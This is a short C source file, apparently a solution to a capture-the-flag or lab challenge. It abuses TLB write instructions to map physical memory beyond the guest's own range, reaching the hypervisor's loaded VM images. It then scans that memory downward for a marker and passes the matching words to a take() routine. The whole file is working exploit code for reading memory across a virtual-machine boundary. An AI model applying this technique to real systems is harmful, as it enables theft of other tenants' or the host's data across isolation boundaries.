/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * What is not our memory is the machine's. Our own hides as much of the machine's first, where the
 * neighbour's page is; but all of the machine lies open beyond that, and at its end are the images that
 * the monitor has loaded its VMs from.
 */
#include "thief.h"

uint8_t found[16];

enum { WINDOW = 0x20000000, SPACE = 7, STEP = 1 << 20 };

/* The word at a machine address; its page has been mapped. */
static uint32_t word(uint32_t pa)
{
    uint32_t w = 0;
    peek(WINDOW + (pa & PAGE_OFFSET), SPACE, &w);
    return w;
}

static void map(uint32_t pa)
{
    csr_write(mtlbidx, 1);
    tlbwi(WINDOW | SPACE, (pa & PAGE_FRAME) | TLB_LO_V | TLB_LO_R);
}

/* Eight words from pa on, over a page's end if need be. */
static void words_from(uint32_t pa, uint32_t words[8])
{
    for (uint32_t i = 0; i < 8; i++) {
        map(pa + 4 * i);
        words[i] = word(pa + 4 * i);
    }
}

/* Where the machine's memory ends: behind it, nothing can be read. */
static uint32_t machine_end(void)
{
    uint32_t end = memory_end(), w;
    do {
        end += STEP;
        map(end);
    } while (peek(WINDOW, SPACE, &w));
    return end;
}

int main(void)
{
    uint32_t words[8];
    for (uint32_t page = machine_end() - PAGE_SIZE; page >= memory_end(); page -= PAGE_SIZE) {
        map(page);
        for (uint32_t i = 0; i < PAGE_SIZE; i += 4) {
            if (is_mark(word(page + i), 0)) {
                words_from(page + i, words);
                if (take(words)) {
                    return 0;
                }
                map(page);
            }
        }
    }
    return 0;
}
